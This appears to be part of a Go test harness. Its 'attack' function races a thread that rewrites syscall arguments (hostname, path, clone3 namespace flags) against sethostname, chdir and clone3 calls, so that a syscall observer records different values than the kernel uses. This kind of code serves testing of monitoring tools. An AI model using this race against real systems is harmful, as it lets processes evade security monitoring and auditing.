package main

import (
	"fmt"
	"os"
	"runtime"
	"sync/atomic"
	"unsafe"

	"golang.org/x/sys/unix"
)

// Changes the arguments of calls while they are read: the observer is to see
// others than the kernel.
func attack(where string) {
	if where == "quit" {
		return
	}
	var stop atomic.Bool
	done := make(chan bool)
	name := [8]byte{'c', 'o', 'n', 't', 'a', 'i', 'n', 'e'}
	path := [32]byte{}
	copy(path[:], "/proc/self/exe\x00")
	flags := [11]uint64{4: uint64(unix.SIGCHLD)}
	go func() {
		runtime.LockOSThread()
		for i := byte(0); !stop.Load(); i++ {
			name[0] = "ch"[i%2]
			path[1] = "pq"[i%2]
			atomic.StoreUint64(&flags[0], []uint64{0, unix.CLONE_NEWPID, unix.CLONE_NEWUTS, unix.CLONE_NEWPID | unix.CLONE_NEWUTS}[i%4])
		}
		done <- true
	}()
	made := 0
	for range 40 {
		if where == "container" {
			unix.RawSyscall(unix.SYS_SETHOSTNAME, uintptr(unsafe.Pointer(&name[0])), 8, 0)
		}
		unix.RawSyscall(unix.SYS_CHDIR, uintptr(unsafe.Pointer(&path[0])), 0, 0)
		if where == "host" {
			pid, _, errno := unix.RawSyscall(unix.SYS_CLONE3, uintptr(unsafe.Pointer(&flags[0])), 64, 0)
			if errno == 0 && pid == 0 {
				for {
					unix.RawSyscall(unix.SYS_EXIT_GROUP, 0, 0, 0)
				}
			}
			if errno == 0 {
				made++
				unix.Wait4(int(pid), nil, unix.WALL, nil)
			}
		}
	}
	stop.Store(true)
	<-done
	say(made, "made")
	if where == "container" {
		unix.Sethostname([]byte("container"))
		name, _ := os.Hostname()
		fmt.Println("at last", name)
	}
}
